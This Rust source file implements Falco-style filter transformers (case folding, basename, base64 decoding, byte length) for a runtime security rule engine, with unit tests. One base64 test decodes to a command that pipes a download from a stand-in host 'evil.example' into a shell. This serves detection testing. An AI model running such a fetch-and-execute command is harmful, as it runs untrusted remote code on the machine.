//! Transformers (`tolower(proc.name)`, `b64(...)`, …; falco-fields.md 2.5, libsinsp
//! `sinsp_filter_transformers/`).

use std::borrow::Cow;

use crate::{ast::Transformer, value::FieldType, value::Value};

/// See `crate::ops::transform`.
pub(super) fn transform<'a>(t: Transformer, v: Value<'a>) -> Option<Value<'a>> {
    match t {
        Transformer::Val => Some(v),
        Transformer::ToLower => text(v).map(|s| Value::Str(fold_case(s, false))),
        Transformer::ToUpper => text(v).map(|s| Value::Str(fold_case(s, true))),
        Transformer::Basename => text(v).map(|s| Value::Str(basename(s))),
        Transformer::B64 => {
            let decoded = match &v {
                Value::Str(s) => b64_decode(s.as_bytes()),
                Value::Bytes(b) => b64_decode(b),
                _ => None,
            }?;
            Some(match String::from_utf8(decoded) {
                Ok(s) => Value::Str(Cow::Owned(s)),
                Err(e) => Value::Bytes(Cow::Owned(e.into_bytes())),
            })
        }
        Transformer::Len => match &v {
            // Falco uses `strnlen`: a count of bytes, stopping at an embedded NUL.
            Value::Str(s) => Some(Value::Uint(
                s.bytes().position(|b| b == 0).unwrap_or(s.len()) as u64,
            )),
            Value::Bytes(b) => Some(Value::Uint(b.len() as u64)),
            _ => None,
        },
    }
}

/// See `crate::ops::transform_type`.
pub(super) fn transform_type(t: Transformer, ty: FieldType) -> Result<FieldType, String> {
    let refuse = || Err(format!("{} does not accept a {ty} field", t.name()));
    match (t, ty) {
        (Transformer::Val, ty) => Ok(ty),
        (Transformer::ToLower | Transformer::ToUpper | Transformer::Basename, FieldType::Str) => {
            Ok(FieldType::Str)
        }
        // Falco keeps BYTEBUF for `b64(bytebuf)`; we type the decoded value as text, which
        // is what the rules compare it with. `transform` still yields `Value::Bytes` when the
        // decoded bytes are not UTF-8.
        (Transformer::B64, FieldType::Str | FieldType::Bytes) => Ok(FieldType::Str),
        (Transformer::Len, FieldType::Str | FieldType::Bytes) => Ok(FieldType::Uint64),
        _ => refuse(),
    }
}

/// The value as text for the string transformers: a byte buffer is read lossily.
fn text(v: Value<'_>) -> Option<Cow<'_, str>> {
    match v {
        Value::Str(s) => Some(s),
        Value::Bytes(Cow::Borrowed(b)) => Some(String::from_utf8_lossy(b)),
        Value::Bytes(Cow::Owned(b)) => Some(match String::from_utf8(b) {
            Ok(s) => Cow::Owned(s),
            Err(e) => Cow::Owned(String::from_utf8_lossy(e.as_bytes()).into_owned()),
        }),
        _ => None,
    }
}

/// ASCII case folding; borrows when nothing changes, which is the common case for
/// `tolower(proc.name)`.
fn fold_case(s: Cow<'_, str>, upper: bool) -> Cow<'_, str> {
    let changes = if upper {
        s.bytes().any(|b| b.is_ascii_lowercase())
    } else {
        s.bytes().any(|b| b.is_ascii_uppercase())
    };
    if !changes {
        return s;
    }
    let mut owned = s.into_owned();
    if upper {
        owned.make_ascii_uppercase();
    } else {
        owned.make_ascii_lowercase();
    }
    Cow::Owned(owned)
}

/// The text after the last `/`: `""` if the value ends with `/`, all of it if there is none.
fn basename(s: Cow<'_, str>) -> Cow<'_, str> {
    let Some(slash) = s.rfind('/') else {
        return s;
    };
    match s {
        Cow::Borrowed(b) => Cow::Borrowed(&b[slash + 1..]),
        Cow::Owned(mut o) => {
            o.drain(..=slash);
            Cow::Owned(o)
        }
    }
}

fn b64_value(c: u8) -> Option<u32> {
    Some(match c {
        b'A'..=b'Z' => c - b'A',
        b'a'..=b'z' => c - b'a' + 26,
        b'0'..=b'9' => c - b'0' + 52,
        b'+' => 62,
        b'/' => 63,
        _ => return None,
    } as u32)
}

/// Standard-alphabet base64, padded or not, as Falco's `decodeWithoutPadding`: up to two
/// trailing `=` are dropped, then the rest must be whole base64 with zero unused low bits.
/// No whitespace, no URL-safe alphabet. `None` when it is not valid base64.
fn b64_decode(input: &[u8]) -> Option<Vec<u8>> {
    if input.is_empty() {
        return Some(Vec::new());
    }
    let mut data = input;
    for _ in 0..2 {
        if let Some(rest) = data.strip_suffix(b"=") {
            data = rest;
        }
    }
    // A lone `=`/`==`, or a length that leaves 6 dangling bits, is not base64.
    if data.is_empty() || data.len() % 4 == 1 {
        return None;
    }
    let mut out = Vec::with_capacity(data.len() / 4 * 3 + 2);
    for chunk in data.chunks(4) {
        let mut acc = 0u32;
        for &c in chunk {
            acc = (acc << 6) | b64_value(c)?;
        }
        match chunk.len() {
            4 => out.extend_from_slice(&[(acc >> 16) as u8, (acc >> 8) as u8, acc as u8]),
            // 12 bits: one byte, and the 4 low bits must be zero.
            2 if acc & 0xf == 0 => out.push((acc >> 4) as u8),
            // 18 bits: two bytes, and the 2 low bits must be zero.
            3 if acc & 0x3 == 0 => out.extend_from_slice(&[(acc >> 10) as u8, (acc >> 2) as u8]),
            _ => return None,
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn s(x: &str) -> Value<'_> {
        Value::Str(Cow::Borrowed(x))
    }

    fn owned(x: &str) -> Value<'static> {
        Value::Str(Cow::Owned(x.to_owned()))
    }

    fn b(x: &[u8]) -> Value<'_> {
        Value::Bytes(Cow::Borrowed(x))
    }

    #[test]
    fn case_folding_is_ascii_and_borrows_when_unchanged() {
        assert_eq!(transform(Transformer::ToLower, s("BaSh")), Some(s("bash")));
        assert_eq!(transform(Transformer::ToUpper, s("BaSh")), Some(s("BASH")));
        assert_eq!(
            transform(Transformer::ToLower, s("ÉCOLE")),
            Some(s("École"))
        );
        assert_eq!(
            transform(Transformer::ToLower, b(b"AB\xff")),
            Some(s("ab\u{fffd}"))
        );
        assert_eq!(transform(Transformer::ToUpper, s("")), Some(s("")));
        let Some(Value::Str(Cow::Borrowed(_))) = transform(Transformer::ToLower, s("bash")) else {
            panic!("an unchanged value should stay borrowed");
        };
    }

    #[test]
    fn basename() {
        let base = |v| transform(Transformer::Basename, v);
        assert_eq!(base(s("/usr/bin/bash")), Some(s("bash")));
        assert_eq!(base(s("/usr/bin/")), Some(s("")));
        assert_eq!(base(s("/")), Some(s("")));
        assert_eq!(base(s("bash")), Some(s("bash")));
        assert_eq!(base(s("")), Some(s("")));
        assert_eq!(base(s("a/b")), Some(s("b")));
        assert_eq!(base(owned("/x/y.conf")), Some(s("y.conf")));
        assert_eq!(base(owned("plain")), Some(s("plain")));
        assert_eq!(base(s("/dir/é")), Some(s("é")));
    }

    #[test]
    fn base64_decodes() {
        let dec = |v| transform(Transformer::B64, v);
        assert_eq!(dec(s("aGVsbG8=")), Some(s("hello")));
        assert_eq!(dec(s("aGVsbG8")), Some(s("hello")));
        assert_eq!(dec(s("aGVsbA==")), Some(s("hell")));
        assert_eq!(dec(s("aGVsbA")), Some(s("hell")));
        assert_eq!(dec(s("aGVs")), Some(s("hel")));
        assert_eq!(dec(s("")), Some(s("")));
        assert_eq!(dec(b(b"aGk=")), Some(s("hi")));
        assert_eq!(dec(s("+/8=")), Some(b(&[0xfb, 0xff])));
        assert_eq!(dec(s("AA==")), Some(s("\0")));
        assert_eq!(
            dec(s("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==")),
            Some(s("curl http://evil.example/x | sh"))
        );
    }

    #[test]
    fn bad_base64_has_no_value() {
        let dec = |v| transform(Transformer::B64, v);
        for bad in [
            "=",
            "==",
            "a",
            "aGVsbG8===",
            "aGV sbG8=",
            "aGVsbG8=\n",
            "aGVs*G8=",
            "aGVsbG9",
            "aGVsbG-",
            "aGVsbG_",
            "a=b=",
            "aGVsbG8=x",
        ] {
            assert_eq!(dec(s(bad)), None, "{bad:?}");
        }
        assert_eq!(dec(b(b"\xff\xfe")), None);
    }

    #[test]
    fn len_counts_bytes_up_to_nul() {
        let len = |v| transform(Transformer::Len, v);
        assert_eq!(len(s("bash")), Some(Value::Uint(4)));
        assert_eq!(len(s("")), Some(Value::Uint(0)));
        assert_eq!(len(s("ab\0cd")), Some(Value::Uint(2)));
        assert_eq!(len(s("é")), Some(Value::Uint(2)));
        assert_eq!(len(b(b"ab\0cd")), Some(Value::Uint(5)));
    }

    #[test]
    fn string_transformers_refuse_other_values() {
        for t in [
            Transformer::ToLower,
            Transformer::ToUpper,
            Transformer::Basename,
            Transformer::B64,
            Transformer::Len,
        ] {
            assert_eq!(transform(t, Value::Uint(1)), None, "{t:?}");
            assert_eq!(transform(t, Value::Int(-1)), None, "{t:?}");
            assert_eq!(transform(t, Value::Bool(true)), None, "{t:?}");
            assert_eq!(
                transform(t, Value::Ip("1.2.3.4".parse().unwrap())),
                None,
                "{t:?}"
            );
        }
    }

    #[test]
    fn val_is_identity() {
        for v in [
            s("x"),
            b(b"\0"),
            Value::Uint(7),
            Value::Int(-7),
            Value::Bool(false),
        ] {
            assert_eq!(transform(Transformer::Val, v.clone()), Some(v));
        }
    }

    #[test]
    fn result_types() {
        use FieldType as T;
        use Transformer as X;
        assert_eq!(transform_type(X::ToLower, T::Str), Ok(T::Str));
        assert_eq!(transform_type(X::ToUpper, T::Str), Ok(T::Str));
        assert_eq!(transform_type(X::Basename, T::Str), Ok(T::Str));
        assert_eq!(transform_type(X::B64, T::Str), Ok(T::Str));
        assert_eq!(transform_type(X::B64, T::Bytes), Ok(T::Str));
        assert_eq!(transform_type(X::Len, T::Str), Ok(T::Uint64));
        assert_eq!(transform_type(X::Len, T::Bytes), Ok(T::Uint64));
        for ty in [T::Str, T::Bytes, T::Int64, T::Uint32, T::Port, T::IpNet] {
            assert_eq!(transform_type(X::Val, ty), Ok(ty));
        }
        assert_eq!(
            transform_type(X::ToLower, T::Uint32),
            Err("tolower does not accept a UINT32 field".into())
        );
        assert_eq!(
            transform_type(X::Basename, T::Bytes),
            Err("basename does not accept a BYTEBUF field".into())
        );
        assert_eq!(
            transform_type(X::B64, T::Int64),
            Err("b64 does not accept a INT64 field".into())
        );
        assert_eq!(
            transform_type(X::Len, T::IpAddr),
            Err("len does not accept a IPADDR field".into())
        );
        assert!(transform_type(X::ToUpper, T::Bool).is_err());
    }
}
